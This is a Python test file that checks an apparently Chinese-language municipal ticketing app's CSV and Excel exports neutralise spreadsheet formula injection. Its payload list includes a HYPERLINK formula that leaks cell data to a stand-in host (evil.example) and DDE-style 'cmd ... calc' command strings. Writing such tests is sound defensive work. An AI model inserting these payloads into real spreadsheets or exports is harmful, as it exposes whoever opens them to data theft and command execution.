"""Formula injection in every export: a ticket description, a grid or facility name starting with
= + - @, a tab or a carriage return must reach CSV and Excel as text, never as a formula.

Before the fix the desk's Excel export stored ``=HYPERLINK(…)`` as a live formula (openpyxl
data type 'f') and its CSV wrote every payload raw; the indicators and coverage workbooks did
the same with names. Now CSV cells get the OWASP single-quote prefix and Excel cells are text
with Excel's own quote prefix; numbers stay numbers (a negative number is not text).
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update
from streamlit.testing.v1 import AppTest

from geo import settings
from geo.access import auth
from geo.coverage import coverage, coverage_io
from geo.demo import accounts
from geo.io import export
from geo.db import store
from geo.tickets import service as ts
from geo.db.schema import Facility, Grid

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HOSTILE_GRID = "=1+2 网格"


def formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def text_cells(data: bytes) -> dict[str, openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


# --------------------------------------------------------------------------- the rule itself

def test_csv_prefixes_formula_text_and_keeps_numbers():
    frame = pd.DataFrame({"描述": PAYLOADS + ["普通描述", "-3.5", "12.0%"],
                          "数值": [-5, 3, -1, 0, 7, 8, 9, 10, -11, 12],
                          "比例": [-0.5] * 10})
    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["描述", "数值", "比例"]
    for payload, row in zip(PAYLOADS, rows[1:]):
        assert row[0] == "'" + payload  # shown as written, never evaluated
    assert [r[0] for r in rows[-3:]] == ["普通描述", "-3.5", "12.0%"]  # a number as text is no formula
    assert [r[1] for r in rows[1:]] == ["-5", "3", "-1", "0", "7", "8", "9", "10", "-11", "12"]
    assert {r[2] for r in rows[1:]} == {"-0.5"}


def test_excel_has_no_formula_cell_and_keeps_numbers_numeric():
    frame = pd.DataFrame({"描述": PAYLOADS, "数值": [-5, 3, -1, 0, 7, 8, -9]})
    data = export.excel_bytes({"工单": frame, "表头": frame.rename(columns={"描述": "=A1"})})
    assert formula_cells(data) == []
    cells = text_cells(data)
    for payload in [*PAYLOADS, "=A1"]:
        payload = payload.replace("\r", "\n")  # XML keeps no bare CR: it reads back as a line feed
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix  # text, exactly as written
    ws = openpyxl.load_workbook(io.BytesIO(data))["工单"]
    numbers = [ws.cell(r, 2) for r in range(2, len(PAYLOADS) + 2)]
    assert [c.value for c in numbers] == [-5, 3, -1, 0, 7, 8, -9] and {c.data_type for c in numbers} == {"n"}


# --------------------------------------------------------------------------- every export of the product

@pytest.fixture(scope="module")
def hostile_town(town_url):
    """The small town with hostile ticket descriptions, a hostile grid name and a hostile facility name."""
    engine = store.make_engine(town_url)
    spot = store.read_layer(engine, Grid).geometry.iloc[0].representative_point()
    for text in PAYLOADS:
        ts.report(engine, category="sanitation", description=text, lon=spot.x, lat=spot.y, now=settings.now())
    with engine.begin() as conn:
        gid = conn.execute(Grid.__table__.select().order_by(Grid.id).limit(1)).first().id
        conn.execute(update(Grid).where(Grid.id == gid).values(name=HOSTILE_GRID))
        fid = conn.execute(Facility.__table__.select().order_by(Facility.id).limit(1)).first().id
        conn.execute(update(Facility).where(Facility.id == fid).values(name="@SUM(1+1) 服务站"))
    engine.dispose()
    return town_url


def downloads(monkeypatch) -> dict:
    """File name → bytes maker of every st.download_button a page run draws."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    made, real = {}, MediaFileManager.add_deferred

    def keep(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        made[file_name] = data_callable
        return real(self, data_callable, mimetype, coordinates, file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep)
    real_add = MediaFileManager.add

    def keep_bytes(self, path_or_data, mimetype, coordinates, file_name=None, **kw):
        if file_name:
            made[file_name] = lambda: path_or_data
        return real_add(self, path_or_data, mimetype, coordinates, file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add", keep_bytes)
    return made


def run_page(name: str, url: str, monkeypatch) -> AppTest:
    monkeypatch.setenv("DATABASE_URL", url)
    at = AppTest.from_file(str(settings.ROOT / "pages" / f"{name}.py"), default_timeout=180)
    at.session_state["user"] = auth.authenticate(store.make_engine(url), "staff", accounts.DEMO_PASSWORD,
                                                 now=settings.now())
    at.run()
    assert not at.exception, at.exception
    return at


def test_the_ticket_desk_exports_descriptions_as_text(hostile_town, monkeypatch):
    made = downloads(monkeypatch)
    run_page("tickets", hostile_town, monkeypatch)
    rows = list(csv.reader(io.StringIO(made["tickets.csv"]().decode("utf-8-sig"), newline="")))
    column = rows[0].index("描述")
    described = {r[column] for r in rows[1:]}
    stored = {p.strip() for p in PAYLOADS}  # a report keeps its description without surrounding blanks
    assert {"'" + p for p in stored} <= described and not stored & described
    assert "'" + HOSTILE_GRID in {r[rows[0].index("网格")] for r in rows[1:]}
    sheet = made["tickets.xlsx"]()
    assert formula_cells(sheet) == []
    cells = text_cells(sheet)
    assert all(cells[p].quotePrefix for p in stored) and cells[HOSTILE_GRID].quotePrefix
    ages = pd.read_excel(io.BytesIO(sheet), sheet_name="工单")["已历时(天)"]
    assert pd.api.types.is_float_dtype(ages)  # numbers stay numbers


def test_the_indicators_workbook_has_no_formula(hostile_town, monkeypatch):
    made = downloads(monkeypatch)
    run_page("indicators", hostile_town, monkeypatch)
    book = made[next(k for k in made if k.startswith("indicators_"))]()
    assert formula_cells(book) == []
    assert text_cells(book)[HOSTILE_GRID].quotePrefix


def test_the_coverage_workbook_has_no_formula(hostile_town):
    engine = store.make_engine(hostile_town)
    plan = coverage.build_plan(coverage.load_frames(engine))
    book = coverage_io.to_excel(coverage.analyse(plan, coverage.REQUIRED, method="straight"))
    assert formula_cells(book) == []
    assert text_cells(book)[HOSTILE_GRID].quotePrefix
    shares = openpyxl.load_workbook(io.BytesIO(book)).worksheets[1]
    assert any(c.data_type == "n" for row in shares.iter_rows(min_row=2) for c in row)
